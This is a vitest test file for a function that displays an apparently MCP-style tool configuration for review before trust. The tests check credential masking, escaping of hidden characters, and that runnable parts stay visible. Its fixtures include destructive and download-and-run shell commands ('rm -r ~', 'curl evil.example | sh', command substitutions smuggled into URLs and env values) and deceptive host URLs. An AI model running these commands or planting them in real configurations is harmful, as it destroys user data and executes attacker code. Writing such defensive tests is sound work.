import { describe, expect, it } from "vitest";
import { shownPart } from "./shown-part.ts";

describe("a part as it is shown before it is trusted", () => {
  it("begins with what acts, whatever the author's order, and is not cut", () => {
    const note = "x".repeat(5000);
    expect(
      shownPart({ timeoutMs: 5, env: { NOTE: note }, source: "mcp", url: "u", args: ["-c", "rm -r ~"], command: "sh" }),
    ).toEqual([
      'command: "sh"',
      'args: ["-c","rm -r ~"]',
      'url: "u"',
      `env: {"NOTE":"${note}"}`,
      'source: "mcp"',
      "timeoutMs: 5",
    ]);
  });

  it("shows no character that hides or reorders others", () => {
    expect(
      shownPart({ command: "a\u001b[8m\u202eb", "k\u200bey": `x${" ".repeat(4)}y`, args: ["\r\n", "\u3164"] }),
    ).toEqual([
      String.raw`command: "a\u001b[8m\u202eb"`,
      String.raw`args: ["\r\n","\u3164"]`,
      String.raw`"k\u200bey": "x\u0020\u0020\u0020\u0020y"`,
    ]);
  });

  it("masks credentials, and shows where they come from", () => {
    const shown = shownPart({
      url: "postgres://me:pass@word$!@db.example/shop",
      password: "plain-secret",
      token: "plain-secret ${env:TOKEN:-plain-secret}",
      headers: { Authorization: "Bearer ${env:TOKEN}", "X-Key": "plain-secret" },
      env: { API_TOKEN: "plain-secret", DATABASE_URL: "postgres://me:plain-secret@db.example/shop" },
      args: ["postgres://me:plain-secret@db.example/shop"],
      embeddings: { apiKey: "plain-secret" },
    });
    expect(shown.join("\n")).not.toMatch(/plain-secret|pass@word/);
    expect(shown.join("\n")).toContain("postgres://me:••••@db.example/shop");
    expect(shown).toContain('token: "••••${env:TOKEN:-••••}"');
    expect(shown).toContain('headers: {"Authorization":"••••${env:TOKEN}","X-Key":"••••"}');
  });

  it("masks tokens and parameters of URLs, never the host that is contacted", () => {
    const shown = shownPart({
      state: "postgres://u@db.example/app?schema=team&password=plain-secret ${env:PW}",
      bus: "nats://plain-secret@bus.example",
      url: "postgres://u:plain-secret@evil.example/x@good.example",
      endpoint: "http://evil.example:${env:PORT:-80}/@good.example/",
      args: ["https://plain-secret@api.example/mcp?token=plain-secret", "https://h/?token=$(evil.example)"],
    });
    expect(shown).toEqual([
      'args: ["https://••••@api.example/mcp?token=••••","https://h/?token=$(evil.example)"]',
      'url: "postgres://u:••••@evil.example/x@good.example"',
      'bus: "nats://••••@bus.example"',
      'endpoint: "http://evil.example:${env:PORT:-80}/@good.example/"',
      'state: "postgres://u@db.example/app?schema=team&password=••••${env:PW}"',
    ]);
  });

  it.each([
    { command: "sh", args: ["-c", "echo ://a:$(curl evil.example|sh)@b"] },
    { command: "sh", args: ["-c", "://a:`curl${IFS}evil.example`@b"] },
    { command: "sh", args: ["-c", '$TOKEN "password":"x"'], env: { TOKEN: "curl evil.example | sh" } },
    { command: "sh", env: { PASSWORD_HOOK: "./evil.example.sh", token: "$(evil.example)" } },
    { command: "x://a:$(evil.example)@b" },
    { command: "node", args: ["-e", "token", "evil.example"], headers: {} },
  ])("does not mask what could be run: %j", (part) => {
    expect(shownPart(part).join("\n")).toContain("evil.example");
  });
});
